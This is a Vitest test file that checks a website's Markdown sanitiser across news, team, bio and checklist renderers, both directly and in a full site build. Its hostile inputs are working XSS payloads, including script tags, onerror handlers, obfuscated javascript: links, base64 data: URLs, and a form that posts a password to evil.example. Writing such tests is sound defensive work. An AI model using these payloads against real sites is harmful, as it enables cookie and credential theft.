import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { htmlToHast, markdownToHtml as satteriToHtml } from 'satteri';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderInline, renderMarkdown } from '../../src/lib/checklists/render.ts';
import { markdownToHtml } from '../../src/lib/text/markdown.ts';
import { sanitizePlugin } from '../../src/lib/text/sanitize-plugin.ts';
import { buildSiteOrThrow, projectRoot } from '../support/build-site.ts';

// Every Markdown body the site renders goes through one sanitiser: nothing that runs script, no
// event handlers, no `javascript:` URLs, nothing loaded from another host; links to other hosts
// stay links (issue 11, "News bodies are not sanitised"). Each hostile body runs through every
// path a body takes: news (Astro's `render()`, Sätteri with the sanitiser plugin as configured in
// astro.config.mjs), team descriptions and bios (markdownToHtml), checklists (block and inline).

const renderers = [
  {
    path: 'news (Sätteri + sanitizePlugin)',
    render: async (md: string) => (await satteriToHtml(md, { hastPlugins: [sanitizePlugin()] })).html,
  },
  { path: 'team description / bio (markdownToHtml)', render: async (md: string) => markdownToHtml(md) },
  { path: 'checklist rationale (renderMarkdown)', render: async (md: string) => renderMarkdown(md) },
  { path: 'checklist item line (renderInline)', render: async (md: string) => renderInline(md) },
];

const FORBIDDEN_TAGS = new Set(
  'script iframe frame frameset object embed applet style link meta base form svg math template noscript source picture video audio'.split(
    ' ',
  ),
);

/**
 * What is dangerous in rendered HTML, read as a browser reads it (the HTML is parsed, not
 * searched): elements that run script, load or embed things; `on*` handlers; `style`; and URLs
 * that run script or leave the site (`src` must stay on the site, `href` may be http(s)/mailto).
 */
type HastNode = {
  type: string;
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: unknown[];
};

function dangers(html: string | HastNode): string[] {
  const found: string[] = [];
  const visit = (node: {
    type: string;
    tagName?: string;
    properties?: Record<string, unknown>;
    children?: unknown[];
  }) => {
    if (node.type === 'element') {
      const tag = node.tagName ?? '';
      if (FORBIDDEN_TAGS.has(tag)) found.push(`<${tag}>`);
      for (const [key, value] of Object.entries(node.properties ?? {})) {
        const text = String(value)
          .replace(/[\u0000-\u0020]/g, '')
          .toLowerCase();
        if (/^on/i.test(key) || key === 'style' || key === 'srcSet' || key === 'formAction')
          found.push(`${tag} ${key}`);
        if (
          ['src', 'data', 'poster', 'background'].includes(key) &&
          !/^(?![a-z][a-z0-9+.-]*:)(?![\\/]{2})/.test(text)
        )
          found.push(`${tag} ${key}=${text}`);
        if (
          ['href', 'action', 'cite', 'xlinkHref'].includes(key) &&
          /^[a-z][a-z0-9+.-]*:/.test(text) &&
          !/^(?:https?|mailto):/.test(text)
        )
          found.push(`${tag} ${key}=${text}`);
      }
    }
    for (const child of node.children ?? []) visit(child as typeof node);
  };
  visit(typeof html === 'string' ? (htmlToHast(html, { fragment: true }) as HastNode) : html);
  return found;
}

/** The first element of a page with this tag and class: the part a Markdown body renders into. */
function part(html: string, tag: string, className?: string): HastNode | undefined {
  const find = (node: HastNode): HastNode | undefined => {
    const classes = node.properties?.['className'];
    if (node.tagName === tag && (!className || (Array.isArray(classes) && classes.includes(className))))
      return node;
    for (const child of node.children ?? []) {
      const hit = find(child as HastNode);
      if (hit) return hit;
    }
    return undefined;
  };
  return find(htmlToHast(html) as HastNode);
}

const hostile = [
  { name: 'script element', body: 'Hello <script>alert(document.cookie)</script> world', absent: ['alert('] },
  {
    name: 'script with a foreign src',
    body: '<script src="https://evil.example/x.js"></script>\n\nText',
    absent: ['evil.example'],
  },
  { name: 'img onerror', body: 'A <img src="x.png" onerror="alert(1)"> B', absent: ['onerror', 'alert'] },
  {
    name: 'onclick and onmouseover',
    body: '<b onclick="steal()" onmouseover="steal()">bold</b>',
    absent: ['steal'],
  },
  { name: 'javascript: Markdown link', body: '[click me](javascript:alert(1))', absent: ['javascript'] },
  { name: 'javascript: raw anchor', body: '<a href="javascript:alert(1)">click</a>', absent: ['javascript'] },
  {
    name: 'entity-obfuscated javascript:',
    body: '<a href="jav&#x61;script&colon;alert(1)">a</a> <a href="&#106;avascript:alert(1)">b</a>',
    absent: ['alert'],
  },
  {
    name: 'tab and newline inside javascript:',
    body: '<a href="java&#9;script:alert(1)">a</a> <a href=" javascript:alert(1)">b</a>',
    absent: ['alert'],
  },
  { name: 'entity in a Markdown link URL', body: '[x](jav&#x61;script:alert(1))', absent: ['alert'] },
  { name: 'vbscript: link', body: '<a href="vbscript:msgbox(1)">a</a>', absent: ['msgbox'] },
  {
    name: 'data: link',
    body: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    absent: ['base64'],
  },
  {
    name: 'data: image',
    body: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    absent: ['base64'],
  },
  { name: 'iframe', body: '<iframe src="https://evil.example/"></iframe>\n\nText', absent: ['evil.example'] },
  {
    name: 'style element',
    body: '<style>body { background: url(https://evil.example/track) }</style>\n\nText',
    absent: ['evil.example', 'background'],
  },
  {
    name: 'style attribute',
    body: '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
    absent: ['evil.example', 'position'],
  },
  {
    name: 'link stylesheet',
    body: '<link rel="stylesheet" href="https://evil.example/x.css">\n\nText',
    absent: ['evil.example'],
  },
  {
    name: 'object and embed',
    body: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
    absent: ['evil.example'],
  },
  {
    name: 'svg with script and onload',
    body: '<svg onload="alert(1)"><script>alert(2)</script><use href="https://evil.example/#x"/></svg>',
    absent: ['alert', 'evil.example'],
  },
  {
    name: 'foreign Markdown image',
    body: '![tracker](https://evil.example/pixel.gif)',
    absent: ['evil.example'],
  },
  {
    name: 'foreign raw image, protocol-relative and backslash',
    body: '<img src="//evil.example/a.png"> <img src="/\\evil.example/b.png"> <img src="HTTPS://evil.example/c.png">',
    absent: ['evil.example'],
  },
  {
    name: 'picture with a foreign srcset',
    body: '<picture><source srcset="https://evil.example/a.webp"><img src="a.png"></picture>',
    absent: ['evil.example'],
  },
  {
    name: 'meta refresh',
    body: '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nText',
    absent: ['evil.example', 'refresh'],
  },
  {
    name: 'form action',
    body: '<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>',
    absent: ['evil.example', 'post'],
  },
  { name: 'base href', body: '<base href="https://evil.example/">\n\n[home](./)', absent: ['evil.example'] },
  {
    name: 'template and noscript',
    body: '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    absent: ['<template', '<noscript'],
  },
];

describe.each(renderers)('$path', ({ render }) => {
  it.each(hostile)('$name: the output holds nothing dangerous', async ({ body, absent }) => {
    const html = await render(body);
    expect(dangers(html)).toEqual([]);
    for (const fragment of absent) expect(html).not.toContain(fragment);
  });

  it.each([
    {
      name: 'a link to another host stays a link, with noopener',
      body: 'See [the docs](https://docs.example.com/guide)',
      present: '<a href="https://docs.example.com/guide" rel="noopener noreferrer">the docs</a>',
    },
    {
      name: 'a relative image stays',
      body: 'Photo ![team](../avatars/team.png)',
      present: '<img src="../avatars/team.png" alt="team">',
    },
    { name: 'harmless HTML stays', body: 'Press <kbd>Ctrl</kbd> and **go**', present: '<kbd>Ctrl</kbd>' },
    {
      name: 'footnote links still meet their notes',
      body: 'Text[^1]\n\n[^1]: Note',
      present: '<li id="user-content-fn-1">',
    },
  ])('$name', async ({ body, present }) => {
    expect(await render(body)).toContain(present);
  });
});

// One real build of a copy of the sample content with hostile bodies, to prove the wiring: the
// sanitiser runs where Astro renders news, and where the pages render team and person Markdown.
describe('a build of hostile content', () => {
  let work: string;
  let outDir: string;
  const hostileBody =
    hostile.map((row) => row.body).join('\n\n') + '\n\nSee [the docs](https://docs.example.com/guide).\n';

  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), 'markdown-sanitise-'));
    const content = path.join(work, 'content');
    await cp(path.join(projectRoot, 'content'), content, { recursive: true });
    await writeFile(
      path.join(content, 'news/2026-11-25-hostile.md'),
      `---\ntitle: 悪いお知らせ\ndate: 2026-11-25\nkind: other\n---\n${hostileBody}`,
    );
    const team = path.join(content, 'teams/infrastructure.yaml');
    await writeFile(
      team,
      `${await readFile(team, 'utf8')}\ndescription: ${JSON.stringify(hostileBody)}\n`.replace(
        /^description: \|[\s\S]*?(?=^\S)/m,
        '',
      ),
    );
    const person = path.join(content, 'people/kato-ken.yaml');
    await writeFile(
      person,
      `${(await readFile(person, 'utf8')).replace(/^bio:.*$/m, '')}\nbio: ${JSON.stringify(hostileBody)}\n`,
    );
    outDir = await buildSiteOrThrow({ contentDir: content });
  });
  afterAll(() => rm(work, { recursive: true, force: true }));

  it.each([
    {
      page: 'news/2026-11-25-hostile/index.html',
      benign: 'news/2026-11-10-search-renewal/index.html',
      tag: 'article',
    },
    {
      page: 'teams/infrastructure/index.html',
      benign: 'teams/application/index.html',
      tag: 'div',
      className: 'team-description',
    },
    {
      page: 'people/kato-ken/index.html',
      benign: 'people/anazawa-sho/index.html',
      tag: 'div',
      className: 'bio',
    },
  ])(
    '$page holds no script but the site’s own, and keeps links to other hosts',
    async ({ page, benign, tag, className }) => {
      const html = await readFile(path.join(outDir, page), 'utf8');
      const own = await readFile(path.join(outDir, benign), 'utf8');
      const scripts = (text: string) => text.match(/<script\b[^>]*>/gi) ?? [];
      expect(scripts(html)).toEqual(scripts(own));
      expect(html).not.toMatch(/javascript:|vbscript:|evil\.example|<iframe|<object|<embed|http-equiv/i);
      const body = part(html, tag, className);
      expect(body).toBeDefined();
      expect(dangers(body!)).toEqual([]);
      expect(html).toContain(
        '<a href="https://docs.example.com/guide" rel="noopener noreferrer">the docs</a>',
      );
    },
  );
});
